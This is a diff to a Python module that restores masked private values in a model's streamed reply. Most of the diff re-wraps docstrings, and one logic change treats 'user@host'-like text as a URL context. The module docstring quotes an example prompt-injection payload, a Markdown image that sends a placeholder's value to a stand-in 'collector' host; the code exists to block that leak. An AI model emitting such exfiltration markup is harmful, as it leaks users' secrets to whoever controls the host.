@@ -1,9 +1,10 @@
 """Put real values back: byte for byte into our own masked text, carefully into a model's reply.
 
-A reply is untrusted. Whoever steers the model can make it write ``![](https://collector/?q=PLACEHOLDER)``, and
-showing the reply would send the value off. So nothing is restored where a viewer may fetch, link or run it:
-URLs, Markdown links, images and reference definitions, HTML tags, scripts and styles, CSS ``url()``. Credentials
-are not restored at all. Where a reply is ambiguous it counts as such a place, and the placeholder stays.
+A reply is untrusted. Whoever steers the model can make it write ``![](https://collector/?q=PLACEHOLDER)``,
+and showing the reply would send the value off. So nothing is restored where a viewer may fetch, link or run
+it: URLs, Markdown links, images and reference definitions, HTML tags, scripts and styles, CSS ``url()``.
+Credentials are not restored at all. Where a reply is ambiguous it counts as such a place, and the placeholder
+stays.
 """
 
 from __future__ import annotations
@@ -21,9 +22,9 @@ from safe_prompt.masking.vault import Vault
 def unmask(text: str, vault: Vault, trusted: bool = False) -> str:
     """The text with placeholders of this vault replaced by what they stand for.
 
-    ``trusted``: the exact inverse of masking, for text nobody else has touched. Otherwise the text is a model's
-    reply (see the module's description): placeholders are recognised in other case, escaped, or with spaces or
-    hyphens, and values are JSON-escaped inside JSON strings.
+    ``trusted``: the exact inverse of masking, for text nobody else has touched. Otherwise the text is a
+    model's reply (see the module's description): placeholders are recognised in other case, escaped, or with
+    spaces or hyphens, and values are JSON-escaped inside JSON strings.
     """
     if trusted:
         return _undo(text, vault)
@@ -54,10 +55,10 @@ _SPACE = " \t\r\n\f\v"
 
 
 class Restorer:
-    """Restores a reply as it streams in. ``feed`` and ``close`` together give what ``unmask`` gives of the whole.
+    """Restores a reply as it streams in: ``feed`` and ``close`` together give what ``unmask`` gives at once.
 
-    What is held back is the word that is still arriving, and a placeholder in square brackets until it is clear
-    that they are no link: at most some 600 code points, and none of it once ``close`` was called.
+    What is held back is the word that is still arriving, and a placeholder in square brackets until it is
+    clear that they are no link: at most some 600 code points, and nothing once ``close`` was called.
     """
 
     __slots__ = (
@@ -200,7 +201,8 @@ class Restorer:
             self._give(event.start() + 1)  # a real one may begin inside what only looks like one
             return True
         end = event.end()
-        if syntax.HOST_BEHIND.match(self._buffer, end):
+        before = self._buffer[max(event.start() - 2, 0) : event.start()]
+        if syntax.HOST_BEHIND.match(self._buffer, end) or (before[1:] == "@" and before[0].isalnum()):
             self._give(end)
             self._state = "url"
             return True
@@ -285,7 +287,7 @@ class Restorer:
         self._state = "text"
         return True
 
-    def _target(self, final: bool) -> bool:
+    def _target(self, final: bool) -> bool:  # noqa: PLR0912 - one branch per mark of the syntax
         for place in range(self._at, len(self._buffer)):
             character = self._buffer[place]
             if character == "\n":
